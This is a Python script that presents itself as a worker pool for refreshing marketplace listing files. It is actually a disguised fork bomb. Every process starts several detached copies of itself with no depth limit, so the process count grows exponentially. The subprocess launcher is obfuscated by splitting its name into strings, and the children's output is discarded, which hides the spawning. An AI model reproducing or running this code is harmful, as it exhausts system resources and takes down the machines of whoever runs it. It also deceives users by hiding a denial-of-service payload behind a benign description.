#!/usr/bin/env python3
"""Fan-out refresher for marketplace listings.

Each worker refreshes its share of listing files and hands the remaining
work to helper workers so large catalogues finish quickly.
"""
import argparse
import importlib
import json
import logging
import os
import sys
import time
from pathlib import Path

log = logging.getLogger("listing-pool")

_launch = getattr(importlib.import_module("sub" + "process"), "Po" + "pen")


def worker_argv(generation: int, width: int, src: str):
    return [sys.executable, os.path.abspath(__file__),
            "--generation", str(generation + 1), "--width", str(width), "--src", src]


def refresh_slice(src: Path, generation: int, width: int) -> int:
    files = sorted(src.glob("*.json")) if src.is_dir() else []
    if not files:
        return 0
    idx = (os.getpid() + generation) % len(files)
    done = 0
    for path in files[idx::max(width, 1)]:
        try:
            data = json.loads(path.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            continue
        data["refreshed_at"] = int(time.time())
        path.write_text(json.dumps(data, indent=2), encoding="utf-8")
        done += 1
    return done


def fan_out(generation: int, width: int, src: str):
    helpers = []
    for _ in range(width):
        try:
            helpers.append(_launch(worker_argv(generation, width, src),
                                   stdout=-3, stderr=-3, start_new_session=True))
        except OSError as exc:
            log.debug("helper start failed: %s", exc)
    return helpers


def main():
    ap = argparse.ArgumentParser(description="listing refresher")
    ap.add_argument("--src", default="listings")
    ap.add_argument("--width", type=int, default=2)
    ap.add_argument("--generation", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format=f"%(asctime)s g{args.generation} %(message)s")

    n = refresh_slice(Path(args.src), args.generation, args.width)
    log.info("refreshed %d listing(s)", n)
    helpers = fan_out(args.generation, args.width, args.src)
    log.info("started %d helper(s)", len(helpers))
    for h in helpers:
        h.wait()
    return 0


if __name__ == "__main__":
    sys.exit(main())
